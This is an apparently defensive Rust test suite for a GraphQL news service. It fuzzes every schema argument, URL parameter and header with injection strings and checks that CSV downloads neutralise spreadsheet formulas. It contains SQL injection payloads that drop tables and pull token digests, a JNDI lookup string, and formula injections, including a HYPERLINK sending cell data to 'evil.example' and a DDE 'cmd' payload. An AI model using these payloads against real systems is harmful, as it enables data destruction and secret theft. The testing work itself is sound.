//! SQL in every text that the schema takes, wherever it takes one: what is added to the schema later is tried too. And texts that other programs
//! would take for something to be done.

use std::{
    collections::{BTreeSet, VecDeque},
    time::Duration,
};

use futures_util::{StreamExt, stream};
use serde_json::{Value, json};

use super::answers_as_ever;
use crate::{
    confidential::schema::{Field, Input, Schema, Type},
    newsroom::{Editor, Reader, entry, story},
};

/// What would be something else than a text, were it ever put into a statement. The last one no text of the database can hold.
const HOSTILE: [&str; 4] = [
    "x'; drop table development_revision cascade; --",
    "' or '1'='1' union select secret_digest::text from api_token --",
    "\") $1 %s \\ {{7*7}} ${jndi:ldap://x} /* 𝕏 \u{202e}",
    "a\0b",
];

/// Longer than any answer takes.
const PATIENCE: Duration = Duration::from_secs(60);

/// How many inputs may stand within each other.
const DEEPEST: usize = 4;

/// A field with what leads to it.
struct Site<'a> {
    operation: &'static str,
    way: Vec<&'a Field>,
}

/// What is tried: a document, and what of it is hostile.
struct Attempt {
    what: String,
    body: Value,
}

struct Walk<'a> {
    schema: &'a Schema,
    /// The id of a development that may be acted upon.
    development: String,
}

impl<'a> Walk<'a> {
    /// Every field that takes something, each by its shortest way from a root.
    fn sites(&self) -> Vec<Site<'a>> {
        let roots = [
            ("query", &self.schema.query),
            ("mutation", &self.schema.mutation),
            ("subscription", &self.schema.subscription),
        ];
        let mut sites = Vec::new();
        let mut seen = BTreeSet::new();
        for (operation, root) in roots {
            let mut ahead = VecDeque::from([(self.schema.get(root), Vec::new())]);
            while let Some((parent, way)) = ahead.pop_front() {
                for field in &parent.fields {
                    let way: Vec<_> = way.iter().copied().chain([field]).collect();
                    let child = self.schema.get(field.of.named());
                    if child.is_composite() && seen.insert(child.name.as_str()) {
                        ahead.push_back((child, way.clone()));
                    }
                    if !field.args.is_empty() {
                        sites.push(Site { operation, way });
                    }
                }
            }
        }
        sites
    }

    /// A site with each hostile text in each place that takes one.
    fn attempts(&self, site: &Site<'a>) -> Vec<Attempt> {
        let (field, before) = site.way.split_last().unwrap();
        let mut attempts = Vec::new();
        for argument in &field.args {
            for hostile in HOSTILE {
                for (place, value) in self.hostile(argument, hostile, DEEPEST) {
                    let others = field.args.iter().filter(|other| other.is_required() && other.name != argument.name);
                    let others: String = others.map(|other| self.written(other)).collect();
                    let mut selection =
                        format!("{}({}: $hostile {others}){}", field.name, argument.name, self.below(field));
                    for outer in before.iter().rev() {
                        let needed: String =
                            outer.args.iter().filter(|one| one.is_required()).map(|one| self.written(one)).collect();
                        let needed = if needed.is_empty() { needed } else { format!("({needed})") };
                        selection = format!("{}{needed} {{ {selection} }}", outer.name);
                    }
                    let query = format!("{} ($hostile: {}) {{ {selection} }}", site.operation, argument.of);
                    let way: Vec<_> = site.way.iter().map(|field| field.name.as_str()).collect();
                    let what = format!("{} {}({}): {hostile:?}", site.operation, way.join("."), place);
                    attempts.push(Attempt { what, body: json!({ "query": query, "variables": { "hostile": value } }) });
                }
            }
        }
        attempts
    }

    fn below(&self, field: &Field) -> &'static str {
        let child = self.schema.get(field.of.named());
        match child.fields.iter().any(|field| field.name == "userErrors") {
            _ if !child.is_composite() => "",
            true => " { __typename userErrors { code message } }",
            false => " { __typename }",
        }
    }

    fn written(&self, input: &Input) -> String {
        format!("{}: {} ", input.name, self.schema.literal(&input.of, &self.sound(input)))
    }

    /// An input's values with a hostile text in one place each.
    fn hostile(&self, input: &Input, text: &str, deepest: usize) -> Vec<(String, Value)> {
        let named = self.schema.get(input.of.named());
        let values: Vec<(String, Value)> = match named.kind.as_str() {
            "SCALAR" if ["Int", "Float", "Boolean"].contains(&named.name.as_str()) => Vec::new(),
            "SCALAR" | "ENUM" => vec![(String::new(), json!(text))],
            "INPUT_OBJECT" if deepest > 0 => {
                let least = self.least(named);
                let of = |field: &Input| {
                    self.hostile(field, text, deepest - 1)
                        .into_iter()
                        .map({
                            let (least, name) = (least.clone(), field.name.clone());
                            move |(place, value)| {
                                let mut object = least.clone();
                                object[&name] = value;
                                (format!(".{name}{place}"), object)
                            }
                        })
                        .collect::<Vec<_>>()
                };
                named.input_fields.iter().flat_map(of).collect()
            }
            _ => Vec::new(),
        };
        let name = if deepest == DEEPEST { input.name.as_str() } else { "" };
        let wrapped =
            |(place, value)| (format!("{name}{place}"), if input.of.is_list() { json!([value]) } else { value });
        values.into_iter().map(wrapped).collect()
    }

    fn least(&self, of: &Type) -> Value {
        let required = of.input_fields.iter().filter(|field| field.is_required());
        required.map(|field| (field.name.clone(), self.sound(field))).collect::<serde_json::Map<_, _>>().into()
    }

    /// A value that is as good as any.
    fn sound(&self, input: &Input) -> Value {
        let named = self.schema.get(input.of.named());
        let value = match (named.kind.as_str(), named.name.as_str(), input.name.as_str()) {
            ("ENUM", ..) => json!(named.enum_values[0].name),
            ("INPUT_OBJECT", "CitationInput", _) => {
                json!({ "source": { "kind": "CABLE", "title": "A cable", "publishedOn": "2025-09-10" } })
            }
            ("INPUT_OBJECT", ..) => self.least(named),
            (_, "ID", "disputes" | "development" | "id" | "ids") => json!(self.development),
            (_, "CountryCode", _) => json!("GH"),
            (_, "Boolean", _) => json!(false),
            (_, "Int", _) => json!(1),
            (_, "Decimal", _) => json!("7500000"),
            (_, "Date", _) => json!("2025-09-08"),
            (_, "DateTime", _) => json!("2100-01-01T00:00:00Z"),
            (_, _, "country") => json!("FR"),
            (_, _, "occurred" | "publishedOn") => json!("2025-09-08"),
            (_, _, "currency") => json!("EUR"),
            (_, _, "email") => json!("nobody@example.org"),
            (_, _, "url" | "archivedUrl") => json!("https://example.org/record"),
            (_, _, "nationalities") => json!("SY"),
            _ => json!("A text of some length"),
        };
        if input.of.is_list() { json!([value]) } else { value }
    }
}

/// Sends an attempt. Whatever comes of it, it is no fault of ours, and tells nothing of what is behind; else it is told what was wrong.
async fn harm(reader: &Reader, attempt: Attempt) -> Option<String> {
    let Attempt { what, body } = attempt;
    let accepted = [("accept", "application/graphql-response+json, text/event-stream")];
    let answer = tokio::time::timeout(PATIENCE, reader.post_with(body, &accepted)).await.expect(&what);
    if answer.headers()["content-type"].to_str().unwrap().starts_with("text/event-stream") {
        // A subscription that was let in; what it says comes in its own time.
        return None;
    }
    let answer = answer.text().await.unwrap();
    let faults = ["INTERNAL", "UNAVAILABLE", "TIMEOUT", "GRAPHQL_PARSE_FAILED", "GRAPHQL_VALIDATION_FAILED"];
    let told = ["syntax error", "sqlx", "PgDatabaseError", "invalid byte sequence", "invalid input"];
    let is_harmful = faults.iter().any(|fault| answer.contains(&format!("\"code\":\"{fault}\"")))
        || told.iter().any(|told| answer.contains(told));
    is_harmful.then(|| format!("{what}: {answer}"))
}

#[tokio::test]
async fn sql_is_a_text_wherever_the_schema_takes_one() {
    story(async |newsroom| {
        let (admin, reader) = (newsroom.staff("admin").await, newsroom.reader());
        let schema = Schema::of(&reader).await;
        let development = admin.recorded("Ask", entry("FR", json!({ "publish": false }))).await;
        let walk = Walk { schema: &schema, development };
        let secrets = newsroom.number("select count(*) from api_token").await;
        let attempts: Vec<_> = walk.sites().iter().flat_map(|site| walk.attempts(site)).collect();
        for known in [
            "query countries(filter.search)",
            "query auditLog(filter.actor)",
            "mutation recordAsk(input.citations.source.url)",
            "mutation signIn(input.email)",
            "mutation importDevelopments(input.table)",
            "subscription changes(after)",
            "query node(id)",
            "mutation saveDraft(input.content.ask.summary)",
        ] {
            assert!(attempts.iter().any(|attempt| attempt.what.starts_with(known)), "{known} is not tried");
        }
        assert!(attempts.len() > 1_000, "{}", attempts.len());
        let harms = stream::iter(attempts).map(|attempt| harm(&admin, attempt)).buffer_unordered(4);
        let harms: Vec<_> = harms.filter_map(std::future::ready).collect().await;
        assert!(harms.is_empty(), "{harms:#?}");
        assert!(newsroom.number("select count(*) from development_revision").await > 58);
        assert!(newsroom.number("select count(*) from api_token").await >= secrets);
        answers_as_ever(&reader).await;
    })
    .await;
}

#[tokio::test]
async fn sql_in_an_address_or_a_header_is_a_text_too() {
    story(async |newsroom| {
        let reader = newsroom.reader();
        for hostile in HOSTILE {
            for (path, parameter) in [
                ("/", "q"),
                ("/", "region"),
                ("/", "status"),
                ("/", "asOf"),
                ("/country/GH", "after"),
                ("/country/GH", "asOf"),
                ("/data/countries.csv", "asOf"),
                ("/feed.atom", "asOf"),
                ("/graphql", "query"),
                ("/graphql", "operationName"),
            ] {
                let answer = reader.get(path).query(&[(parameter, hostile)]).send().await.unwrap();
                assert!(answer.status().as_u16() < 500, "{path}?{parameter}={hostile}");
            }
            let mut url = url::Url::parse(&reader.url).unwrap();
            url.path_segments_mut().unwrap().extend(["country", hostile]);
            let answer = crate::newsroom::client().get(url).send().await.unwrap();
            assert_eq!(answer.status(), 404);
            // A header holds neither zeros nor letters beyond ASCII.
            let plain: String =
                hostile.chars().filter(|letter| letter.is_ascii() && !letter.is_ascii_control()).collect();
            for (name, value) in [
                ("authorization", format!("Bearer tct_{plain}")),
                ("cookie", format!("tracker_session={}", plain.replace(';', ""))),
                ("x-request-id", plain.clone()),
                ("x-forwarded-for", plain.clone()),
                ("if-none-match", plain.clone()),
                ("accept-language", plain.clone()),
            ] {
                let answer = reader
                    .get("/graphql")
                    .query(&[("query", "{ tally { total } }")])
                    .header(name, &value)
                    .send()
                    .await
                    .unwrap();
                assert!(answer.status().as_u16() < 500, "{name}: {value}");
            }
            let stream = reader.get("/graphql").query(&[("query", "subscription { changes { position } }")]);
            let stream =
                stream.header("accept", "text/event-stream").header("last-event-id", &plain).send().await.unwrap();
            assert!(stream.text().await.unwrap().contains("BAD_USER_INPUT"), "{plain}");
        }
        answers_as_ever(&reader).await;
    })
    .await;
}

#[tokio::test]
async fn no_cell_of_a_download_is_a_formula_to_a_spreadsheet() {
    story(async |newsroom| {
        let editor: Editor = newsroom.editor().await;
        for formula in ["=HYPERLINK(\"https://evil.example?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"] {
            let source = json!({ "kind": "NEWS_REPORT", "publisher": formula, "title": formula, "attribution": formula, "publishedOn": "2025-09-10" });
            let parts = json!({ "summary": formula, "terms": formula, "people": { "describedAs": formula }, "citations": [{ "source": source, "quote": formula, "locator": formula }] });
            editor.recorded("Agreement", entry("FR", parts)).await;
        }
        newsroom.has_been_heard().await;
        for file in ["/data/developments.csv", "/data/countries.csv"] {
            let text = newsroom.reader().get(file).send().await.unwrap().text().await.unwrap();
            let mut cells = 0;
            for row in csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes()).records() {
                for cell in row.unwrap().iter() {
                    let begins = cell.chars().next();
                    assert!(!begins.is_some_and(|first| "=+-@\t\r＝＋－＠".contains(first)), "{file}: {cell}");
                    cells += usize::from(cell.starts_with('\''));
                }
            }
            assert!(file != "/data/developments.csv" || cells >= 6, "{file}: {cells}");
        }
    })
    .await;
}
